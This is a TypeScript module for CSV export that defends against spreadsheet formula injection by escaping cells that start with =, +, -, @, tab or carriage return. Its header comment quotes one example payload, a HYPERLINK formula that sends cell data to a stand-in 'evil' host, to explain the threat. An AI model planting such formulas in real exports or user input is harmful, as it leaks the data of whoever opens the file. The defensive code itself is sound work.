/**
 * Writing CSV that spreadsheets open safely and this app reads back exactly: RFC 4180 with CRLF
 * line ends, a field quoted when it holds a comma, a quote or a line break, and a UTF-8 byte
 * order mark first, so that Excel reads Chinese text as UTF-8 rather than the system's code page.
 *
 * Formula injection ("CSV injection"): a spreadsheet runs a cell that begins with `=`, `+`, `-`
 * or `@` (and, in some, a tab or carriage return) as a formula. A product name or an order's
 * address is typed by people, and a buyer could type `=HYPERLINK("http://evil/?"&A1,"click")`
 * so that the seller's spreadsheet sends data away or runs a command when the export is opened.
 * OWASP's advice is followed: such a text cell is written with an apostrophe before it, which
 * spreadsheets take as "this is text" and do not show. Numbers the app writes itself (amounts,
 * counts) are never guarded: `-12.90` is a number, not a formula. This app's own import undoes
 * the guard on its text columns (`unguardFormula`), so an export imported back is exact; a text
 * that really begins with apostrophes and then one of those characters gets one more apostrophe,
 * so that undoing the guard gives it back unchanged.
 */

/** A value written as it is, never guarded: a number the app formatted itself ("12.90", "-3.50"). */
export interface Literal {
  readonly literal: string;
}

export const literal = (text: string): Literal => ({ literal: text });

/** Strings are people's text (guarded); numbers and booleans are written plainly; absent is empty. */
export type Cell = string | number | boolean | null | undefined | Literal;

/** Text a spreadsheet would run as a formula, or text that would look guarded when read back. */
const NEEDS_GUARD = /^'*[=+\-@\t\r]/;
/** A guarded cell as written by `guardFormula`. */
const GUARDED = /^'(?='*[=+\-@\t\r])/;

export function guardFormula(text: string): string {
  return NEEDS_GUARD.test(text) ? `'${text}` : text;
}

/** The inverse of `guardFormula`, for the text columns of a file this app may have written. */
export function unguardFormula(text: string): string {
  return text.replace(GUARDED, '');
}

const NEEDS_QUOTES = /[",\r\n]/;

/** One field as CSV: quoted (with quotes doubled) only when it must be. */
export function csvField(text: string): string {
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

function cellText(cell: Cell): string {
  if (cell === null || cell === undefined) return '';
  if (typeof cell === 'string') return guardFormula(cell);
  if (typeof cell === 'number') {
    if (!Number.isFinite(cell)) throw new RangeError(`A CSV cell cannot be ${cell}`);
    return String(cell);
  }
  if (typeof cell === 'boolean') return cell ? 'true' : 'false';
  return cell.literal;
}

export const CSV_BOM = '\uFEFF';

/** The whole file: a header, then the rows, every line ending in CRLF. */
export function writeCsv(header: readonly string[], rows: Iterable<readonly Cell[]>, { bom = true }: { bom?: boolean } = {}): string {
  const lines: string[] = [header.map((h) => csvField(h)).join(',')];
  for (const row of rows) {
    if (row.length !== header.length) throw new RangeError(`A CSV row has ${row.length} cells, the header ${header.length}`);
    lines.push(row.map((c) => csvField(cellText(c))).join(','));
  }
  return `${bom ? CSV_BOM : ''}${lines.join('\r\n')}\r\n`;
}
